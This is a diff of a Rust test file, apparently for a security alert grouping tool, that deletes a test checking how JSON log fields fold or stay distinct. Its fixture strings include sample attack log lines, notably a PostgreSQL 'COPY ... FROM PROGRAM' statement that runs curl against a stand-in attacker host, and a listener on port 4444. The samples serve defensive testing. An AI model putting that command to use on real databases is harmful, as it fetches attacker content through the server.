@@ -104,37 +104,6 @@ fn fields_of_a_log_in_json_fold_without_what_differs_each_time() {
 }
 
 #[test]
-fn a_text_in_json_tells_what_a_line_tells() {
-    for (name, one, other) in [
-        (
-            "message",
-            "login failed for jdoe1@corp.example",
-            "login failed for jdoe2@corp.example",
-        ),
-        ("log", "VM \"dc01\" was powered off", "VM \"dc02\" was powered off"),
-        (
-            "message",
-            "new listener on 0.0.0.0:4444",
-            "new listener on 0.0.0.0:5555",
-        ),
-        (
-            "statement",
-            "COPY x FROM PROGRAM 'curl http://evil1.example/a'",
-            "COPY x FROM PROGRAM 'curl http://evil2.example/a'",
-        ),
-    ] {
-        let mut alert = decoded("json", json!({"app": "x", name: "x"}));
-        alert["full_log"] = json!(alert["data"].to_string());
-        let pointer = format!("/data/{name}");
-        assert_differ(&alert, &pointer, one, other);
-        assert_fold(&alert, &pointer, "took 17 ms in worker-3", "took 18 ms in worker-4");
-        assert_fold(&alert, &pointer, "of conn5001 for 17ms", "of conn5002 for 18ms");
-    }
-    let mail = decoded("json", json!({"app": "x", "subject": "x"}));
-    assert_fold(&mail, "/data/subject", "Order for client17", "Order for client18");
-}
-
-#[test]
 fn numbers_that_are_names_count_in_lines() {
     for (one, other) in [
         (
